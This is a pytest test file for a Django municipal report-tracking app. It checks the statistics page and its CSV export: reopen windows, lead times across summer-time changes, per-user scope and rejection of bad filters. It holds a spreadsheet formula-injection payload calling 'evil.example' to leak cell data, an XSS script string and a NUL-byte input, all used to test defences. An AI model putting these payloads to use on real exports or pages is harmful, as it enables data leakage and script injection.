"""The statistics count what their definitions on the page say: each figure on a small set
of reports with known answers (a reopen within and after 30 days, lead times across the
change to and from summer time, a report filed in the night a month turns), only within
the user's scope, exported as CSV that no spreadsheet runs, and any filter that makes no
sense answered with a clear message (ADR 0039)."""

from __future__ import annotations

import csv
import importlib
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.apps import apps
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape

from regiohub.core.testing import staff_client
from regiohub.core.tests.factories import MembershipFactory
from regiohub.meldpunt import queries, services, statistics
from regiohub.meldpunt.models import Category, Report, SatisfactionAnswer
from regiohub.meldpunt.statistics import DEFINITIONS
from regiohub.meldpunt.tests.factories import MENEN_CENTRE, file_report
from regiohub.meldpunt.workflow import Status

pytestmark = pytest.mark.django_db

BRUSSELS = ZoneInfo("Europe/Brussels")
NOW = datetime(2026, 6, 1, 12, 0, tzinfo=BRUSSELS)
MARCH = {"start": date(2026, 3, 1), "end": date(2026, 3, 31), "now": NOW}


def count_all(now=None) -> None:
    """What the job that counts ahead does (tests ask right after changing reports), at
    ``now``: the question's moment, never before the count."""
    statistics.refresh_months(Report.objects.dates("created_at", "month"), now=now)


def figures(user, **question):
    count_all(question.get("now"))
    return queries.statistics(user, **question)


def local(month: int, day: int, hour: int = 10, minute: int = 0, year: int = 2026) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=BRUSSELS)


def report(created: datetime, *, where=None, code: str = "pothole", **fields) -> Report:
    """A report filed through the service, then given the dates and facts of the case."""
    filed = file_report(code=code, **({"where": where} if where else {}))
    Report.objects.filter(pk=filed.pk).update(created_at=created, **fields)
    return Report.objects.get(pk=filed.pk)


@pytest.fixture
def march(categories):
    """Five Kortrijk potholes filed in March 2026, with what happened to them by 1 June."""
    return {
        # Resolved in 3 days, before its due date, never reopened; a happy answer.
        "a": report(local(3, 2), status=Status.CLOSED, first_resolved_at=local(3, 5),
                    resolved_at=local(3, 5), resolution_due_at=local(3, 10),
                    satisfaction_asked_at=local(3, 5), satisfied=True),
        # Reopened 15 days after its first resolution (within 30), resolved again late; an
        # unhappy answer and a request to reopen.
        "b": report(local(3, 3), status=Status.RESOLVED, first_resolved_at=local(3, 5),
                    reopened_at=local(3, 20), resolved_at=local(3, 25),
                    resolution_due_at=local(3, 13), satisfaction_asked_at=local(3, 5),
                    satisfied=False, reopen_requested_at=local(3, 6)),
        # Reopened 46 days after (still first time right), being handled now; asked, silent.
        "c": report(local(3, 4), status=Status.IN_PROGRESS, first_resolved_at=local(3, 5),
                    reopened_at=local(4, 20), satisfaction_asked_at=local(3, 5)),
        # Never handled.
        "d": report(local(3, 10), status=Status.NEW),
        # First resolved 12 days before "now": too early to say whether first time right;
        # no due date (counts as on time). 66 days minus the hour of summer time.
        "f": report(local(3, 15), status=Status.RESOLVED, first_resolved_at=local(5, 20),
                    resolved_at=local(5, 20), resolution_due_at=None),
    }  # fmt: skip


def test_every_figure_of_a_hand_made_month(march, kortrijk_agent):
    [row] = figures(kortrijk_agent, **MARCH)
    assert (row.period, row.period_label) == (date(2026, 3, 1), "2026-03")
    assert (row.municipality, row.category) == ("KOR", "pothole")
    assert row.filed == 5
    assert row.resolved == 4  # a, b, c, f
    assert (row.answered, row.asked, row.response_rate) == (2, 3, 2 / 3)
    assert (row.satisfied, row.satisfied_share) == (1, 1 / 2)
    assert (row.reopen_requested, row.reopen_request_rate) == (1, 1 / 4)
    assert (row.reopened, row.reopen_rate) == (2, 2 / 4)
    # Judged: a, b, c (f was first resolved less than 30 days ago); b was reopened within.
    assert (row.first_time_right, row.judged, row.first_time_right_share) == (2, 3, 2 / 3)
    # Resolved or closed now: a (on time), b (late), f (no due date: on time).
    assert (row.on_time, row.resolved_now, row.on_time_share) == (2, 3, 2 / 3)
    # Lead times 3 days (a), 22 days (b), 66 days less an hour (f): the middle one.
    assert row.median_lead_time == timedelta(days=22)


def test_a_reopen_on_the_thirtieth_day_is_within_and_on_the_thirty_first_after(
    categories, kortrijk_agent
):
    first = local(3, 2).astimezone(ZoneInfo("UTC"))  # 30 days of 24 hours, summer time or not
    report(local(3, 1), status=Status.REOPENED, first_resolved_at=first,
           reopened_at=first + timedelta(days=30))  # fmt: skip
    report(local(3, 1), status=Status.REOPENED, first_resolved_at=first,
           reopened_at=first + timedelta(days=30, seconds=1))  # fmt: skip
    [row] = figures(kortrijk_agent, **MARCH)
    assert (row.reopened, row.judged, row.first_time_right) == (2, 2, 1)


@pytest.mark.parametrize(
    ("created", "resolved", "hours"),
    [
        # The night of 28-29 March 2026 loses an hour: noon to noon is 23 hours.
        (local(3, 28, 12), local(3, 29, 12), 23),
        # The night of 24-25 October 2026 gains one: 25 hours.
        (local(10, 24, 12), local(10, 25, 12), 25),
        # Filed at 01:30 before the clocks go back, resolved at the second 02:30.
        (local(10, 25, 1, 30), datetime(2026, 10, 25, 1, 30, tzinfo=ZoneInfo("UTC")), 2),
    ],
)
def test_lead_times_across_summer_time_are_elapsed_hours(
    categories, kortrijk_agent, created, resolved, hours
):
    report(created, status=Status.RESOLVED, first_resolved_at=resolved, resolved_at=resolved)
    [row] = figures(
        kortrijk_agent, start=created.date(), end=created.date(), now=NOW.replace(year=2027)
    )
    assert row.median_lead_time == timedelta(hours=hours)


def test_a_report_belongs_to_the_local_month_and_quarter_it_was_filed_in(
    categories, kortrijk_agent
):
    utc = ZoneInfo("UTC")
    report(datetime(2026, 3, 31, 21, 30, tzinfo=utc))  # 23:30 in Kortrijk, 31 March
    report(datetime(2026, 3, 31, 22, 30, tzinfo=utc))  # 00:30 in Kortrijk, 1 April
    months = figures(kortrijk_agent, start=date(2026, 3, 1), end=date(2026, 4, 30), now=NOW)
    assert [(r.period_label, r.filed) for r in months] == [("2026-03", 1), ("2026-04", 1)]
    with translation.override("en"):
        quarters = figures(
            kortrijk_agent, start=date(2026, 3, 15), end=date(2026, 4, 2), period="quarter",
            now=NOW,
        )  # fmt: skip
    assert [(r.period_label, r.period, r.filed) for r in quarters] == [
        ("2026 Q1", date(2026, 1, 1), 1),
        ("2026 Q2", date(2026, 4, 1), 1),
    ]


def test_rows_per_municipality_per_category_or_for_all(categories, superuser):
    report(local(3, 2), code="pothole")
    report(local(3, 3), code="street-light")
    report(local(3, 4), code="pothole", where=MENEN_CENTRE)
    both = figures(superuser, **MARCH)
    assert sorted((r.municipality, r.category, r.filed) for r in both) == [
        ("KOR", "pothole", 1), ("KOR", "street-light", 1), ("MEN", "pothole", 1),
    ]  # fmt: skip
    per_category = figures(superuser, rows="category", **MARCH)
    assert sorted((r.municipality, r.category, r.filed) for r in per_category) == [
        ("", "pothole", 2), ("", "street-light", 1),
    ]  # fmt: skip
    per_municipality = figures(superuser, rows="municipality", **MARCH)
    assert sorted((r.municipality, r.category, r.filed) for r in per_municipality) == [
        ("KOR", "", 2), ("MEN", "", 1),
    ]  # fmt: skip
    [everything] = figures(superuser, rows="region", period="year", **MARCH)
    assert (everything.period, everything.filed) == (date(2026, 1, 1), 3)


def test_only_the_reports_the_user_handles_are_counted(categories, march, kortrijk_agent):
    report(local(3, 4), where=MENEN_CENTRE, status=Status.CLOSED, satisfied=False)
    menen_agent = MembershipFactory(organisation=categories["MEN"], agent=True).user
    [menen] = figures(menen_agent, **MARCH)
    assert (menen.municipality, menen.filed, menen.answered) == ("MEN", 1, 1)
    assert {r.municipality for r in figures(kortrijk_agent, **MARCH)} == {"KOR"}
    # Asking for another municipality's figures by filter finds nothing there either.
    kortrijk = march["a"].organisation_id
    assert figures(menen_agent, organisation_ids={kortrijk}, **MARCH) == []
    count_all()
    html = staff_client(menen_agent).get(
        reverse("meldpunt:statistics"), {"start": "2026-03-01", "end": "2026-03-31"}
    )
    assert "Kortrijk" not in html.content.decode().split("<table", 1)[1]


def test_figures_follow_the_services_end_to_end(categories, kortrijk_agent, client):
    """The same facts as the hand-made set, made by the services themselves."""
    filed = file_report()
    services.change_status(filed, Status.RESOLVED, actor=kortrijk_agent)
    token = services.followup_token(filed)
    option = citizen_option(satisfied=False)
    client.post(
        reverse("meldpunt:followup-rate", args=[token]),
        {"option": option.pk, "comment": "Nog steeds een gat.", "reopen": "on"},
    )
    services.change_status(filed, Status.REOPENED, actor=kortrijk_agent, reason="Opnieuw")
    today = filed.created_at.astimezone(BRUSSELS).date()
    [row] = figures(kortrijk_agent, start=today, end=today)
    assert (row.filed, row.resolved, row.asked, row.answered, row.satisfied) == (1, 1, 1, 1, 0)
    assert (row.reopen_requested, row.reopened, row.judged, row.resolved_now) == (1, 1, 0, 0)


def citizen_option(*, satisfied: bool):
    from regiohub.meldpunt.models import SatisfactionOption

    return SatisfactionOption.objects.filter(organisation=None, satisfied=satisfied).first()


# --- The page and its CSV -----------------------------------------------------------------


def test_the_page_shows_the_figures_and_their_definitions(march, kortrijk_agent):
    count_all()
    browser = staff_client(kortrijk_agent)
    browser.cookies["regiohub_language"] = "en"
    query = {"start": "2026-03-01", "end": "2026-03-31", "period": "month"}
    response = browser.get(reverse("meldpunt:statistics"), query)
    assert response.status_code == 200
    html = response.content.decode()
    for _key, name, definition in DEFINITIONS:
        assert escape(str(name)) in html and escape(str(definition)) in html
    [(row, cells)] = response.context["rows"]
    assert row.filed == 5
    assert cells[1] == ("66.7 %", "2/3")  # the response rate, and what it is counted from
    assert 'href="/staff/reports/statistics/export.csv?' in html  # the same question


def test_the_csv_holds_the_same_figures_and_runs_no_formula(march, kortrijk_agent):
    Category.objects.filter(code="pothole", organisation__code="KOR").update(
        name='=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    )
    count_all()
    browser = staff_client(kortrijk_agent)
    browser.cookies["regiohub_language"] = "nl"
    query = {"start": "2026-03-01", "end": "2026-03-31", "period": "month"}
    response = browser.get(reverse("meldpunt:statistics-export"), query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    header, line = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert len(header) == len(line)
    row = dict(zip(header, line, strict=True))
    assert line[5] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in line)
    assert line[6] == "5" and row[header[10]] == "66,7"  # Dutch decimals, for Excel in nl-BE
    assert line[-1] == "22,00"  # the median lead time, in days


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"start": "2026-04-01", "end": "2026-03-01"}, "The end date is before the start date."),
        ({"start": "2000-01-01", "end": "2100-12-31", "period": "month"},
         "That is more than 120 periods"),
        ({"start": "0001-01-01", "end": "2026-01-01"}, "Choose dates between 2000 and 2100."),
        ({"start": "9999-12-31", "end": "9999-12-31"}, "Choose dates between 2000 and 2100."),
        ({"start": "2026-02-30"}, "Enter a valid date."),
        ({"start": "x" * 10_000}, "Enter a valid date."),
        ({"start": "２０２６-０１-０１"}, "Enter a valid date."),
        ({"period": "fortnight"}, "Select a valid choice."),
        ({"rows": "<script>alert(1)</script>"}, "Select a valid choice."),
        ({"municipality": "MEN"}, "Select a valid choice."),  # not one the agent handles
        ({"category": "Ω"}, "Select a valid choice."),
    ],
)  # fmt: skip
def test_a_filter_that_makes_no_sense_is_answered_with_a_message(
    categories, kortrijk_agent, query, message
):
    browser = staff_client(kortrijk_agent)
    browser.cookies["regiohub_language"] = "en"
    for name in ("meldpunt:statistics", "meldpunt:statistics-export"):
        response = browser.get(reverse(name), query)
        assert response.status_code == 400
        html = response.content.decode()
        assert message in html
        assert "<script>alert" not in html


def test_a_nul_in_a_filter_is_refused_before_the_page(categories, kortrijk_agent):
    browser = staff_client(kortrijk_agent)
    browser.cookies["regiohub_language"] = "en"
    response = browser.get(reverse("meldpunt:statistics"), {"category": "pot\x00hole"})
    assert response.status_code == 400
    assert "category contains a NUL character" in response.content.decode()


def test_the_page_is_for_staff_who_handle_reports(categories, client):
    assert client.get(reverse("meldpunt:statistics")).status_code == 302  # to the login
    nobody = MembershipFactory(organisation=categories["KOR"]).user  # an employee
    assert staff_client(nobody).get(reverse("meldpunt:statistics")).status_code == 403


# --- Ratings from before (migration 0016) ---------------------------------------------------


def test_earlier_reports_keep_their_resolution_reopen_and_rating(categories, kortrijk_agent):
    filed = file_report()
    services.change_status(filed, Status.RESOLVED, actor=kortrijk_agent)
    services.change_status(filed, Status.REOPENED, actor=kortrijk_agent, reason="Opnieuw")
    services.change_status(filed, Status.RESOLVED, actor=kortrijk_agent)
    filed.refresh_from_db()
    first, reopened = filed.first_resolved_at, filed.reopened_at
    unhappy = report(local(3, 1), status=Status.CLOSED, resolved_at=local(3, 2),
                     rating=3, rating_comment="Traag", rated_at=local(3, 3))  # fmt: skip
    happy = report(local(3, 1), status=Status.CLOSED, resolved_at=local(3, 2),
                   rating=4, rated_at=local(3, 3))  # fmt: skip
    Report.objects.update(first_resolved_at=None, reopened_at=None, satisfied=None,
                          satisfaction_asked_at=None)  # fmt: skip
    migration = importlib.import_module("regiohub.meldpunt.migrations.0016_satisfaction")
    migration.earlier_reports(apps, None)
    filed.refresh_from_db()
    # From the history: the moments its entries were written, a few ms after the change.
    assert abs(filed.first_resolved_at - first) < timedelta(seconds=1)
    assert abs(filed.reopened_at - reopened) < timedelta(seconds=1)
    unhappy.refresh_from_db()
    happy.refresh_from_db()
    assert (unhappy.first_resolved_at, unhappy.satisfied, happy.satisfied) == (
        local(3, 2), False, True,
    )  # fmt: skip
    answer = SatisfactionAnswer.objects.get(report=unhappy)
    assert (answer.text, answer.comment, answer.answered_at) == ("3/5", "Traag", local(3, 3))
